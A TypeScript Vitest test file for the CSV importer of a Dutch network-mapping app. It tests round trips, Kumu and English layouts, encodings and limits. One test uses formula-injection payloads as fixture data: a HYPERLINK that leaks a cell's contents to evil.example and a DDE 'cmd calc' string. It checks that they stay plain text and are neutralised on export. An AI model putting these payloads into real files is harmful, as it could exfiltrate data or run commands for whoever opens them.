import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  actorFields,
  relationFields,
  SAMPLE_BACKUP,
} from '../../../test/fixtures/spreadsheet/sample-backup.ts';
import { EMPTY_PROFILE } from '../../domain/index.ts';
import { type ExistingWorkspace, planImport } from '../import-plan.ts';
import { LIMITS } from '../limits.ts';
import type { RelationRow } from './columns.ts';
import { type CsvFile, detectDelimiter, readCsv } from './csv-read.ts';
import { writeActorsCsv, writeRelationsCsv } from './csv-write.ts';

const REDACTIE = '00000000-0000-4000-8000-0000000000e1';
const BEWONERS = '00000000-0000-4000-8000-0000000000e2';
const FIXTURES = join(import.meta.dirname, '../../../test/fixtures/spreadsheet');
const fixture = (name: string): CsvFile => ({
  name,
  bytes: new Uint8Array(readFileSync(join(FIXTURES, name))),
});
const file = (name: string, text: string): CsvFile => ({ name, bytes: new TextEncoder().encode(text) });

function document(files: CsvFile[]) {
  const outcome = readCsv(files);
  if (!outcome.ok) throw new Error(JSON.stringify(outcome.issues));
  return outcome.document;
}

function issues(files: CsvFile[]) {
  const outcome = readCsv(files);
  if (outcome.ok) throw new Error('expected issues');
  return outcome.issues;
}

describe('CSV import: round trip', () => {
  it('reads its own export back to the same values', () => {
    const relaties: RelationRow[] = SAMPLE_BACKUP.relations.map(({ sourceId, targetId, ...relation }) => ({
      ...relation,
      source: sourceId,
      target: targetId,
    }));
    const doc = document([
      file('relaties.csv', writeRelationsCsv(relaties, SAMPLE_BACKUP.actors)),
      file('spelers.csv', writeActorsCsv(SAMPLE_BACKUP.actors)),
    ]);
    expect(doc.format).toBe('csv');
    expect(doc.actors.map((actor) => actor.fields)).toEqual(SAMPLE_BACKUP.actors.map(actorFields));
    expect(doc.actors.map((actor) => [actor.key, actor.id])).toEqual(
      SAMPLE_BACKUP.actors.map((actor) => [actor.id, actor.id]),
    );
    expect(doc.relations.map((relation) => relation.fields)).toEqual(
      SAMPLE_BACKUP.relations.map(relationFields),
    );
    expect(doc.relations[0]).toMatchObject({
      id: SAMPLE_BACKUP.relations[0]?.id,
      source: { key: SAMPLE_BACKUP.relations[0]?.sourceId, name: 'Gemeente Utrecht' },
      place: { sheet: 'relaties', row: 2, columns: { sourceId: 'van', strength: 'sterkte' } },
    });
    expect(doc.report).toEqual({ ignored: [], mapped: [] });
    // CSV holds two tables: the claims travel in XLSX, JSON, GEXF and GraphML.
    expect([doc.perspectives, doc.assessments, doc.topics, doc.positions]).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
    expect(writeRelationsCsv([], [])).not.toContain('perspectief');
  });

  it('reads an older relaties perspectief cell as that perspective’s assessment of the relatie', () => {
    const doc = document([
      file(
        'relaties.csv',
        [
          'van;naar;relatietype;sterkte;perspectief',
          'Wijkteam Noord;Gemeente;verwijst;4;Bewoner',
          'Gemeente;Wijkteam Noord;financiert;;Wijkraad Noord',
          'Wijkteam Noord;Buurtkamer;werkt_samen;2;wijkraad  noord',
          'Buurtkamer;Gemeente;informeert;3;',
        ].join('\r\n'),
      ),
      file(
        'spelers.csv',
        'naam;kracht\r\nWijkteam Noord;professional\r\nGemeente;gemeente\r\nBuurtkamer;bewoner\r\n',
      ),
    ]);
    expect(doc.report.mapped).toEqual([{ from: 'relaties: perspectief', to: 'oordelen' }]);
    const existing: ExistingWorkspace = {
      actors: [],
      relations: [],
      claims: {
        perspectives: [
          { id: REDACTIE, name: 'Redactie', force: null, description: '', editors: true },
          { id: BEWONERS, name: 'Bewoners', force: 'bewoner', description: '', editors: false },
        ],
        topics: [],
        assessments: [],
        positions: [],
      },
    };
    const planned = planImport(doc, existing, () => crypto.randomUUID());
    if (!planned.ok) throw new Error(JSON.stringify(planned.issues));
    const { plan } = planned;
    // One new perspective for the name the werkruimte lacks, whatever its case and spacing.
    expect(plan.claims.perspectives.create.map((perspective) => perspective.name)).toEqual([
      'Wijkraad Noord',
    ]);
    const wijkraad = plan.claims.perspectives.create[0]?.id;
    const relationOf = (row: number) => plan.relations.create[row - 2]?.id;
    expect(
      plan.claims.assessments.create.map(({ relationId, perspectiveId, present, strength }) => ({
        relationId,
        perspectiveId,
        present,
        strength,
      })),
    ).toEqual([
      { relationId: relationOf(2), perspectiveId: BEWONERS, present: true, strength: 4 },
      { relationId: relationOf(3), perspectiveId: wijkraad, present: true, strength: null },
      { relationId: relationOf(4), perspectiveId: wijkraad, present: true, strength: 2 },
    ]);
  });
});

describe('CSV import: hostile and odd files', () => {
  it('keeps formula-like cells as plain text and takes off our apostrophe', () => {
    const doc = document([fixture('formula-injection.csv')]);
    expect(doc.actors.map((actor) => actor.fields.name)).toEqual([
      '=HYPERLINK("http://evil.example/?leak="&A1;"Klik hier")',
      '+1',
      '-2',
      '@SUM(A1)',
      // A raw leading tab is whitespace and trimmed; our exports keep one behind an apostrophe.
      'Tab vooraan',
      'Gewone speler',
    ]);
    expect(doc.actors[3]?.fields.achtergrond).toBe("@SUM(1+1)*cmd|' /C calc'!A0");
    expect(doc.actors[4]?.fields.achtergrond).toBe('=HYPERLINK("http://al.geneutraliseerd")');
    // Written again, every one of them is neutralised.
    const again = writeActorsCsv(
      doc.actors.map((actor) => ({
        id: '',
        domains: [],
        scale: null,
        wijken: [],
        tags: [],
        website: null,
        sources: [],
        ...EMPTY_PROFILE,
        ...(actor.fields as { name: string; force: string; kind: string; achtergrond: string }),
      })),
    );
    expect(again).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1;""Klik hier"")"`);
    expect(again).toContain(";'+1;");
  });

  it('leaves a formula in kracht for the plan, which names the cell', () => {
    const doc = document([fixture('formula-injection.csv')]);
    expect(doc.actors[5]?.fields.force).toBe('=1+1');
    const existing: ExistingWorkspace = { actors: [], relations: [] };
    const plan = planImport(doc, existing, () => crypto.randomUUID());
    expect(plan.ok ? [] : plan.issues.map((issue) => [issue.path, issue.code])).toEqual([
      ['spelers.7.kracht', 'invalid_enum'],
    ]);
  });

  it('passes two spelers with the same id; the plan refuses the second', () => {
    const doc = document([fixture('duplicate-ids.csv')]);
    expect(doc.actors.map((actor) => [actor.key, actor.id, actor.fields.name])).toEqual([
      ['2f1c6b8e-4d3a-4b7e-9c1d-0a5e8f3b2c71', '2f1c6b8e-4d3a-4b7e-9c1d-0a5e8f3b2c71', 'Wijkteam Noord'],
      ['2f1c6b8e-4d3a-4b7e-9c1d-0a5e8f3b2c71', '2f1c6b8e-4d3a-4b7e-9c1d-0a5e8f3b2c71', 'Wijkteam Zuid'],
    ]);
    const plan = planImport(doc, { actors: [], relations: [] }, () => crypto.randomUUID());
    expect(plan.ok ? [] : plan.issues.map((issue) => [issue.path, issue.code])).toEqual([
      ['spelers.3.id', 'duplicate_key'],
    ]);
  });

  it('refuses a file over the size cap', () => {
    const big = { name: 'groot.csv', bytes: new Uint8Array(LIMITS.fileBytes + 1) };
    expect(issues([big])).toEqual([
      { path: 'groot.csv', code: 'too_big', params: { maximum: LIMITS.fileBytes } },
    ]);
  });

  it('names the line of a parse error', () => {
    expect(issues([file('kapot.csv', 'naam;kracht\nA;bewoner\n"B;gemeente\n')])).toEqual([
      {
        path: 'kapot.csv',
        code: 'invalid_file',
        params: { expected: 'CSV', line: 3, reason: 'CSV_QUOTE_NOT_CLOSED' },
      },
    ]);
  });

  it('refuses two files of the same table, and more than two files', () => {
    const spelers = file('a.csv', 'naam;kracht\nA;bewoner\n');
    expect(issues([spelers, { ...spelers, name: 'b.csv' }])).toEqual([
      { path: 'b.csv', code: 'duplicate_items', params: { sheet: 'spelers', files: ['a.csv', 'b.csv'] } },
    ]);
    expect(issues([spelers, spelers, spelers])[0]).toMatchObject({ code: 'invalid_file' });
    expect(issues([])[0]).toMatchObject({ code: 'invalid_file' });
  });

  it('refuses too many rows', () => {
    const text = `naam;kracht\n${'A;bewoner\n'.repeat(LIMITS.rows + 1)}`;
    expect(issues([file('veel.csv', text)])).toEqual([
      { path: 'spelers', code: 'too_many_rows', params: { maximum: LIMITS.rows } },
    ]);
  });
});

describe('CSV import: other layouts', () => {
  it('reads Kumu elements and connections', () => {
    const doc = document([fixture('kumu-connections.csv'), fixture('kumu-elements.csv')]);
    expect(doc.actors.map((actor) => actor.fields)).toEqual([
      {
        name: 'Wijkteam Noord',
        force: 'professional',
        achtergrond: 'Generalistisch wijkteam voor Noord',
        tags: ['wijkteam', 'zorg'],
      },
      {
        name: 'Buurtkamer De Kruimel',
        kind: 'initiatief',
        achtergrond: 'Inloop voor buurtbewoners',
        tags: ['buurt', 'inloop'],
      },
      { name: 'Gemeente Utrecht', force: 'gemeente', achtergrond: '', tags: ['beleid'] },
      {
        name: 'Voedselbank',
        achtergrond: 'Uitgifte van pakketten, elke vrijdag',
        tags: ['type:Organization'],
      },
    ]);
    expect(doc.actors[1]?.place.columns).toMatchObject({
      name: 'Label',
      force: 'Type',
      kind: 'Type',
      tags: 'Tags',
    });
    expect(doc.relations.map((relation) => [relation.source, relation.target, relation.fields])).toEqual([
      [
        { name: 'Wijkteam Noord' },
        { name: 'Buurtkamer De Kruimel' },
        { type: 'verwijst', strength: 4, description: 'Verwijst bewoners door' },
      ],
      [
        { name: 'Gemeente Utrecht' },
        { name: 'Wijkteam Noord' },
        { type: 'financiert', strength: 5, description: '' },
      ],
      [
        { name: 'Buurtkamer De Kruimel' },
        { name: 'Voedselbank' },
        { type: 'werkt_samen', description: 'Samen een inloop, twee keer per week' },
      ],
    ]);
    expect(doc.report).toEqual({
      ignored: ['spelers: Image', 'relaties: Direction'],
      mapped: [
        { from: 'spelers: Label', to: 'naam' },
        { from: 'spelers: Description', to: 'achtergrond' },
        { from: 'spelers: Type', to: 'kracht' },
        { from: 'spelers: Type', to: 'soort' },
        { from: 'spelers: Type', to: 'tags (type:…)' },
      ],
    });
  });

  it('reads English headers, with , and tab as separator', () => {
    const doc = document([fixture('english-actors.csv'), fixture('english-relations.csv')]);
    expect(doc.actors[0]?.fields).toEqual({
      name: 'Neighbourhood team North',
      force: 'professional',
      kind: 'team',
      domains: ['schulden', 'armoede'],
      scale: 'wijk',
      wijken: ['North'],
      tags: [],
      website: 'https://example.org',
      sources: [],
    });
    expect(doc.actors[1]?.fields).toMatchObject({
      scale: 'buurt',
      wijken: ['North', 'South'],
      website: null,
    });
    expect(doc.relations[0]?.fields).toEqual({
      type: 'verwijst',
      strength: 3,
      description: 'Refers clients',
      validFrom: '2024-01-01',
      validTo: null,
    });
    expect(doc.relations[0]?.place.columns).toMatchObject({ validFrom: 'Valid from', sourceId: 'From' });
    // The old Perspective column: the professionals' perspective says the tie exists.
    expect(doc.assessments).toEqual([
      expect.objectContaining({
        relation: { key: 'relaties.2' },
        perspective: { force: 'professional' },
        fields: { present: true, strength: 3 },
      }),
    ]);
    expect(doc.report.ignored).toEqual(['spelers: Colour']);
  });

  it('reads UTF-8 without BOM, UTF-16 and Windows-1252, with cells over several lines', () => {
    const text = 'naam;kracht;achtergrond\n"Café ""Één""";bewoner;"regel 1\nregel 2"\nB;rijk;\n';
    const utf16 = new Uint8Array([
      0xff,
      0xfe,
      ...new Uint8Array(new Uint16Array([...text].map((c) => c.charCodeAt(0))).buffer),
    ]);
    const latin = new Uint8Array([...text].map((c) => ({ é: 0xe9, É: 0xc9 })[c] ?? c.charCodeAt(0)));
    for (const bytes of [new TextEncoder().encode(text), utf16, latin]) {
      const doc = document([{ name: 'x.csv', bytes }]);
      expect(
        doc.actors.map((actor) => [actor.fields.name, actor.fields.achtergrond, actor.place.row]),
      ).toEqual([
        ['Café "Één"', 'regel 1\nregel 2', 2],
        ['B', '', 3],
      ]);
    }
  });

  it('detects the separator from the header line', () => {
    expect(detectDelimiter('naam;kracht;"a,b,c"\nx,y,z,w')).toBe(';');
    expect(detectDelimiter('naam,kracht,soort;x')).toBe(',');
    expect(detectDelimiter('naam\tkracht\tsoort')).toBe('\t');
    expect(detectDelimiter('naam')).toBe(';');
  });
});
